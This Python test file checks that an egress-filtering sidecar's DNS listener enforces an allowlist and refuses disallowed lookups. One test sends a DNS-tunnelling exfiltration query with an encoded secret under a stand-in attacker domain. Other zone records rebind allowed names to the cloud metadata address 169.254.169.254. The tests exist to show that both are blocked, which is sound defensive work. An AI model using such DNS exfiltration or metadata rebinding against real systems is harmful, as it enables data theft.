"""The DNS listener in a real `egress-sidecar run`: queries from dig and dnspython, forwarded to
a real authoritative server (tests/support/dnsauth.py) on a loopback address's port 53, the
resolv.conf the sidecar reads at start naming it."""

from __future__ import annotations

import json
import random
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import dns.edns
import dns.flags
import dns.message
import dns.query
import dns.rcode
import dns.rdatatype
import pytest

from tests.support.sidecar import Sidecar, free_ports, start_sidecar

DNSAUTH = Path(__file__).resolve().parents[1] / "support" / "dnsauth.py"

ALLOWLIST = """\
allow:
  - api.allowed.test
  - alias.allowed.test
  - rebind.allowed.test
  - mixed.allowed.test
  - big.allowed.test
  - "*.wild.test"
  - host: db.allowed.test
    ports: [5432]
"""

ZONE: dict[str, list[list[Any]]] = {
    "api.allowed.test": [
        ["A", "93.184.216.34", 300],
        ["AAAA", "2606:2800:220:1::1", 300],
        ["TXT", '"v=ok"', 300],
    ],
    "alias.allowed.test": [["CNAME", "edge.cdn.test", 60]],
    "edge.cdn.test": [["A", "93.184.216.35", 30]],
    "rebind.allowed.test": [["A", "169.254.169.254", 300]],
    "mixed.allowed.test": [["A", "169.254.169.254", 300], ["A", "93.184.216.36", 300]],
    "big.allowed.test": [["TXT", '"' + "x" * 200 + f'{n}"', 300] for n in range(8)],
    "db.allowed.test": [["A", "93.184.216.40", 300]],
    "web.shop.svc.cluster.local": [["A", "10.96.3.4", 30]],
    "a.b.wild.test": [["A", "93.184.216.37", 300]],
    "unlisted.test": [["A", "93.184.216.38", 300]],
}


@dataclass
class Auth:
    address: str
    proc: subprocess.Popen[bytes]
    log: Path

    def queries(self) -> list[dict[str, Any]]:
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines() if line]

    def saw(self, name: str) -> bool:
        return any(q["name"] == name for q in self.queries())


def _loopback_address() -> str:
    # A random 127/8 address: port 53 there is ours alone (root binds it; CI runs as root).
    return f"127.{random.randint(1, 254)}.{random.randint(1, 254)}.{random.randint(2, 254)}"


def start_auth(workdir: Path, zone: dict[str, list[list[Any]]], address: str) -> Auth:
    workdir.mkdir(parents=True, exist_ok=True)
    zone_file, log, ready = workdir / "zone.json", workdir / "auth.log", workdir / "auth.ready"
    zone_file.write_text(json.dumps(zone))
    proc = subprocess.Popen(
        [
            sys.executable,
            str(DNSAUTH),
            "--zone",
            str(zone_file),
            "--log",
            str(log),
            "--ready",
            str(ready),
            "--listen",
            f"{address}:53",
        ],
    )
    deadline = time.monotonic() + 15
    while not ready.exists():
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            raise RuntimeError("the test DNS server did not start")
        time.sleep(0.05)
    return Auth(address, proc, log)


@dataclass
class Setup:
    auth: Auth
    sidecar: Sidecar
    port: int


def _start(tmp: Path, allowlist: str, extra: tuple[str, ...] = ()) -> Setup:
    auth = start_auth(tmp / "auth", ZONE, _loopback_address())
    resolv = tmp / "resolv.conf"
    resolv.write_text(
        f"search shop.svc.cluster.local svc.cluster.local cluster.local\n"
        f"nameserver {auth.address}\noptions ndots:5\n"
    )
    port, *taken = free_ports(4)  # the DNS port apart from the sidecar's three
    sidecar = start_sidecar(
        tmp / "sidecar",
        ports=(taken[0], taken[1], taken[2]),
        allowlist=allowlist,
        args=[
            "--dns-listen",
            f"127.0.0.1:{port}",
            "--dns-resolv-conf",
            str(resolv),
            "--dns-min-ttl",
            "0",
            "--dns-internal-domain",
            "corp.internal",
            *extra,
        ],
    )
    return Setup(auth, sidecar, port)


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    s = _start(tmp_path_factory.mktemp("dns"), ALLOWLIST)
    yield s
    s.sidecar.stop()
    s.auth.proc.kill()
    s.auth.proc.wait(5)


def ask(
    port: int, name: str, rdtype: str = "A", *, tcp: bool = False, edns: bool = True
) -> dns.message.Message:
    query = dns.message.make_query(name, rdtype, use_edns=0 if edns else False)
    if tcp:
        return dns.query.tcp(query, "127.0.0.1", timeout=5, port=port)
    return dns.query.udp(query, "127.0.0.1", timeout=5, port=port)


def addresses(response: dns.message.Message) -> set[str]:
    return {
        r.address
        for rrset in response.answer
        if rrset.rdtype in (dns.rdatatype.A, dns.rdatatype.AAAA)
        for r in rrset
    }


def ede_text(response: dns.message.Message) -> str | None:
    for option in response.options:
        if isinstance(option, dns.edns.EDEOption):
            return f"{option.code.value}:{option.text}"
    return None


def dns_decision(sidecar: Sidecar, name: str, count: int = 1) -> list[dict[str, Any]]:
    def mine() -> list[dict[str, Any]]:
        return [d for d in sidecar.decisions() if d.get("protocol") == "DNS" and d["host"] == name]

    deadline = time.monotonic() + 5
    while len(mine()) < count and time.monotonic() < deadline:
        time.sleep(0.05)
    return mine()


def test_allowed_name_resolves_over_udp_and_tcp(setup: Setup) -> None:
    udp = ask(setup.port, "api.allowed.test")
    assert udp.rcode() == dns.rcode.NOERROR
    assert addresses(udp) == {"93.184.216.34"}
    tcp = ask(setup.port, "API.allowed.test", "AAAA", tcp=True)
    assert addresses(tcp) == {"2606:2800:220:1::1"}
    assert any(
        q["name"] == "api.allowed.test" and q["transport"] == "tcp" for q in setup.auth.queries()
    )
    [line, *_] = dns_decision(setup.sidecar, "api.allowed.test")
    assert line["decision"] == "allow" and line["reason"] == "matched allow rule"
    assert line["rule"] == "api.allowed.test"
    assert line["capture"] == "transparent" and line["port"] == 53
    assert line["address"] == setup.auth.address  # the resolver it went to
    assert line["detail"] == "A query"


def test_unlisted_name_is_nxdomain_and_never_forwarded(setup: Setup) -> None:
    response = ask(setup.port, "unlisted.test")
    assert response.rcode() == dns.rcode.NXDOMAIN
    assert ede_text(response) == "15:egress-sidecar: no allow rule matches"
    assert addresses(response) == set()
    assert not setup.auth.saw("unlisted.test")
    [line] = dns_decision(setup.sidecar, "unlisted.test")
    assert line["decision"] == "deny" and line["reason"] == "no allow rule matches"


def test_txt_exfiltration_refused_txt_to_allowed_name_answered(setup: Setup) -> None:
    leak = "c2vjcmv0lwrhdge.x1.exfil.attacker.test"
    response = ask(setup.port, leak, "TXT")
    assert response.rcode() == dns.rcode.NXDOMAIN
    assert not setup.auth.saw(leak)
    [line] = dns_decision(setup.sidecar, leak)
    assert (line["decision"], line["detail"]) == (
        "deny",
        "TXT query: no allow rule names c2vjcmv0lwrhdge.x1.exfil.attacker.test",
    )
    ok = ask(setup.port, "api.allowed.test", "TXT")
    assert ok.rcode() == dns.rcode.NOERROR
    assert [r.to_text() for rrset in ok.answer for r in rrset] == ['"v=ok"']


def test_zone_transfer_and_any_refused(setup: Setup) -> None:
    response = ask(setup.port, "api.allowed.test", "ANY")
    assert response.rcode() == dns.rcode.NXDOMAIN
    assert ede_text(response) == "18:egress-sidecar: query type not allowed"


def test_internal_names_always_forwarded(setup: Setup) -> None:
    svc = ask(setup.port, "web.shop.svc.cluster.local")
    assert addresses(svc) == {"10.96.3.4"}  # private, yet internal: not filtered
    other = ask(setup.port, "db.corp.internal", "TXT")
    assert other.rcode() == dns.rcode.NXDOMAIN  # the upstream's own answer
    assert setup.auth.saw("db.corp.internal")
    [line] = dns_decision(setup.sidecar, "db.corp.internal")
    assert (line["decision"], line["reason"]) == ("allow", "cluster-internal name")


def test_rebinding_to_metadata_is_refused(setup: Setup) -> None:
    response = ask(setup.port, "rebind.allowed.test")
    assert response.rcode() == dns.rcode.NXDOMAIN
    assert addresses(response) == set()
    [line] = dns_decision(setup.sidecar, "rebind.allowed.test")
    assert (line["decision"], line["reason"]) == ("deny", "private address")
    assert "169.254.169.254 is cloud metadata" in line["detail"]


def test_rebinding_part_of_an_answer_is_removed(setup: Setup) -> None:
    response = ask(setup.port, "mixed.allowed.test")
    assert response.rcode() == dns.rcode.NOERROR
    assert addresses(response) == {"93.184.216.36"}
    [line] = dns_decision(setup.sidecar, "mixed.allowed.test")
    assert line["decision"] == "allow"
    assert "removed from the answer: 169.254.169.254 is cloud metadata" in line["detail"]


def test_cname_chain_and_wildcard(setup: Setup) -> None:
    response = ask(setup.port, "alias.allowed.test")
    assert addresses(response) == {"93.184.216.35"}
    assert addresses(ask(setup.port, "a.b.wild.test")) == {"93.184.216.37"}


def test_dig_truncation_falls_back_to_tcp_and_plain_clients(setup: Setup) -> None:
    """A big answer: the listener asks over TCP, the UDP client (no EDNS: 512 bytes) gets TC
    and asks again over TCP, as dig does by itself."""
    plain = ask(setup.port, "big.allowed.test", "TXT", edns=False)
    assert plain.flags & dns.flags.TC
    out = subprocess.run(
        [
            "dig",
            "+noedns",
            "+tries=1",
            "+time=5",
            "-p",
            str(setup.port),
            "@127.0.0.1",
            "big.allowed.test",
            "TXT",
        ],
        capture_output=True,
        text=True,
        timeout=20,
        check=True,
    ).stdout
    assert "status: NOERROR" in out
    assert len(re.findall(r"\bTXT\b", out)) >= 8 + 1  # the question and eight records
    denied = subprocess.run(
        ["dig", "+tries=1", "+time=5", "-p", str(setup.port), "@127.0.0.1", "nope.test"],
        capture_output=True,
        text=True,
        timeout=20,
        check=True,
    ).stdout
    assert "status: NXDOMAIN" in denied
    assert "EDE: 15 (Blocked): (egress-sidecar: no allow rule matches)" in denied


def _metrics(sidecar: Sidecar) -> str:
    url = f"http://127.0.0.1:{sidecar.health_port}/metrics"
    with urllib.request.urlopen(url, timeout=5) as response:
        return str(response.read().decode())


def test_metrics(setup: Setup) -> None:
    ask(setup.port, "api.allowed.test")
    ask(setup.port, "metrics-deny.test")
    text = _metrics(setup.sidecar)
    allowed = re.search(
        r'egress_dns_queries_total\{decision="allow",reason="matched allow rule"\} (\d+)', text
    )
    denied = re.search(
        r'egress_dns_queries_total\{decision="deny",reason="no allow rule matches"\} (\d+)', text
    )
    assert allowed and int(float(allowed.group(1))) >= 1
    assert denied and int(float(denied.group(1))) >= 1
    learned = re.search(r"^egress_dns_learned_addresses (\S+)$", text, re.MULTILINE)
    assert learned and float(learned.group(1)) >= 2  # api (v4 + v6), alias, db...


def test_audit_mode_forwards_and_records_audit(tmp_path: Path) -> None:
    s = _start(tmp_path, ALLOWLIST, ("--mode", "audit"))
    try:
        response = ask(s.port, "unlisted.test")
        assert addresses(response) == {"93.184.216.38"}
        assert s.auth.saw("unlisted.test")
        [line] = dns_decision(s.sidecar, "unlisted.test")
        assert (line["decision"], line["reason"]) == ("audit", "no allow rule matches")
    finally:
        s.sidecar.stop()
        s.auth.proc.kill()


def test_unreachable_resolver_is_servfail_with_the_error(tmp_path: Path) -> None:
    resolv = tmp_path / "resolv.conf"
    resolv.write_text(f"nameserver {_loopback_address()}\n")  # nobody listens there
    port, *taken = free_ports(4)  # the DNS port apart from the sidecar's three
    sidecar = start_sidecar(
        tmp_path / "sidecar",
        ports=(taken[0], taken[1], taken[2]),
        allowlist=ALLOWLIST,
        args=[
            "--dns-listen",
            f"127.0.0.1:{port}",
            "--dns-resolv-conf",
            str(resolv),
            "--dns-timeout",
            "0.5",
        ],
    )
    try:
        response = ask(port, "api.allowed.test")
        assert response.rcode() == dns.rcode.SERVFAIL
        [line] = dns_decision(sidecar, "api.allowed.test")
        assert line["decision"] == "allow" and line["error"]
    finally:
        sidecar.stop()


def test_reload_applies_to_the_next_query_and_rechecks_learned(tmp_path: Path) -> None:
    s = _start(tmp_path, ALLOWLIST)
    try:
        assert addresses(ask(s.port, "db.allowed.test")) == {"93.184.216.40"}
        assert addresses(ask(s.port, "api.allowed.test")) == {"93.184.216.34"}
        before = _learned(s.sidecar)
        assert before >= 2
        path = tmp_path / "sidecar" / "allowlist.yaml"
        path.write_text("allow:\n  - api.allowed.test\n")  # db.allowed.test no longer
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            if ask(s.port, "db.allowed.test").rcode() == dns.rcode.NXDOMAIN:
                break
            time.sleep(0.2)
        assert ask(s.port, "db.allowed.test").rcode() == dns.rcode.NXDOMAIN
        assert _learned(s.sidecar) == before - 1  # db's address forgotten, api's kept
        assert addresses(ask(s.port, "api.allowed.test")) == {"93.184.216.34"}
    finally:
        s.sidecar.stop()
        s.auth.proc.kill()


def _learned(sidecar: Sidecar) -> float:
    found = re.search(r"^egress_dns_learned_addresses (\S+)$", _metrics(sidecar), re.MULTILINE)
    assert found
    return float(found.group(1))


def test_queries_in_flight_are_bounded(tmp_path: Path) -> None:
    """A resolver that never answers: with --dns-max-inflight 2, a third query at once gets
    SERVFAIL at once instead of queueing."""
    silent = _loopback_address()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as blackhole:
        blackhole.bind((silent, 53))  # receives, never answers
        resolv = tmp_path / "resolv.conf"
        resolv.write_text(f"nameserver {silent}\n")
        port, *taken = free_ports(4)  # the DNS port apart from the sidecar's three
        sidecar = start_sidecar(
            tmp_path / "sidecar",
            ports=(taken[0], taken[1], taken[2]),
            allowlist=ALLOWLIST,
            args=["--dns-listen", f"127.0.0.1:{port}", "--dns-resolv-conf", str(resolv),
                  "--dns-max-inflight", "2", "--dns-timeout", "3"],
        )  # fmt: skip
        try:
            with ThreadPoolExecutor(2) as pool:
                slow = [pool.submit(ask, port, "api.allowed.test") for _ in range(2)]
                time.sleep(0.5)  # both are being forwarded
                started = time.monotonic()
                third = ask(port, "alias.allowed.test")
                assert third.rcode() == dns.rcode.SERVFAIL
                assert time.monotonic() - started < 1.0
                assert all(f.result().rcode() == dns.rcode.SERVFAIL for f in slow)
            [line] = dns_decision(sidecar, "alias.allowed.test")
            assert line["error"] == "more than 2 queries in flight"
        finally:
            sidecar.stop()


def test_missing_resolv_conf_still_serves(tmp_path: Path) -> None:
    port, *taken = free_ports(4)  # the DNS port apart from the sidecar's three
    sidecar = start_sidecar(
        tmp_path / "sidecar",
        ports=(taken[0], taken[1], taken[2]),
        allowlist=ALLOWLIST,
        args=["--dns-listen", f"127.0.0.1:{port}", "--dns-resolv-conf", str(tmp_path / "none")],
    )
    try:
        assert ask(port, "api.allowed.test").rcode() == dns.rcode.SERVFAIL
        assert ask(port, "unlisted.test").rcode() == dns.rcode.NXDOMAIN
        assert sidecar.health("/healthz/ready")[0] == 200
    finally:
        sidecar.stop()


def test_the_listener_does_not_pull_in_dnspythons_transports() -> None:
    """dns.query / dns.asyncquery import httpx and aioquic (DNS over HTTPS and QUIC): +24 MiB
    and a second of start-up in every pod. The listener uses dnspython for the wire only."""
    code = (
        "import sys, sidecar.dns.listener, sidecar.commands.run\n"
        "bad = [m for m in ('httpx', 'aioquic', 'dns.query', 'dns.asyncquery') "
        "if m in sys.modules]\n"
        "print(','.join(bad))\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True
    ).stdout
    assert out.strip() == ""
